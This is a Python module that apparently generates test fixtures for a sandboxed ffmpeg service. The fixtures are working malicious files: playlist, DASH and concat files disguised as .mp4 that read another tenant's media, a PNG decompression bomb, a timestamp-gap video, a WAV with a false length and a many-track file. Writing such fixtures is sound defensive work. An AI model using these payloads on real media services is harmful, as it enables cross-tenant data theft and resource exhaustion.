"""Files made to do harm; each was seen to work against an ffmpeg without a fence."""

import struct
import subprocess
import wave
import zlib
from pathlib import Path


def playlist(folder: Path, victim: Path) -> Path:
    """An HLS playlist that shows another tenant's media, under a harmless name."""
    lines = ["#EXTM3U", "#EXT-X-TARGETDURATION:10", "#EXTINF:5,", str(victim), "#EXT-X-ENDLIST"]
    return _text(folder / "playlist.mp4", lines)


def manifest(folder: Path, victim: Path) -> Path:
    """The same as a DASH manifest."""
    return _text(
        folder / "manifest.mp4",
        [
            '<?xml version="1.0"?>',
            '<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"',
            ' mediaPresentationDuration="PT5S" profiles="urn:mpeg:dash:profile:full:2011">',
            '<Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1">',
            f"<BaseURL>{victim}</BaseURL></Representation></AdaptationSet></Period></MPD>",
        ],
    )


def concat_list(folder: Path, victim: Path) -> Path:
    """A list for the concat demuxer, which takes plain names of files beside it unasked."""
    return _text(folder / "list.mp4", ["ffconcat version 1.0", f"file {victim.name}"])


def huge_picture(folder: Path, side: int = 16_000) -> Path:
    """A small PNG that unpacks to hundreds of megabytes."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    row = bytes(side * 3 + 1)
    packed = packer.compress(row) + packer.flush(zlib.Z_FULL_FLUSH)
    checksum = struct.pack(">HH", side * len(row) % 65521, 1)  # Adler-32 of nothing but zeros
    pixels = b"\x78\xda" + packed * side + packer.flush() + checksum
    header = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    path = folder / "huge.png"
    path.write_bytes(
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + _chunk(b"IDAT", pixels)
        + _chunk(b"IEND", b"")
    )
    return path


def two_frames_in_ten_hours(folder: Path, ffmpeg: Path) -> Path:
    """Two and a half kilobytes that unpack to 900,000 frames at a constant rate."""
    path = folder / "gap.mp4"
    source = ["-f", "lavfi", "-i", "color=size=64x64:rate=1:duration=2"]
    _ffmpeg(ffmpeg, *source, "-vf", "setpts=N*36000/TB", "-c:v", "libx264", str(path))
    return path


def wave_with_a_lying_size(folder: Path) -> Path:
    """One second of sound whose header promises three hours."""
    path = folder / "lying.wav"
    with wave.open(str(path), "wb") as sound:
        sound.setnchannels(1)
        sound.setsampwidth(2)
        sound.setframerate(48_000)
        sound.writeframes(bytes(2 * 48_000))
    data = bytearray(path.read_bytes())
    promised = 2 * 48_000 * 3 * 3600
    data[4:8] = struct.pack("<I", promised + 36)
    data[40:44] = struct.pack("<I", promised)
    path.write_bytes(data)
    return path


def many_tracks(folder: Path, ffmpeg: Path, tracks: int = 60) -> Path:
    """More streams than anyone needs."""
    path = folder / "tracks.mka"
    maps = ["-map", "0:a"] * tracks
    _ffmpeg(ffmpeg, "-f", "lavfi", "-i", "sine=duration=0.2", *maps, "-c:a", "pcm_s16le", str(path))
    return path


def _ffmpeg(ffmpeg: Path, *arguments: str) -> None:
    subprocess.run(
        [ffmpeg, "-hide_banner", "-nostdin", "-loglevel", "error", *arguments], check=True
    )


def _text(path: Path, lines: list[str]) -> Path:
    path.write_text("\n".join(lines) + "\n")
    return path


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
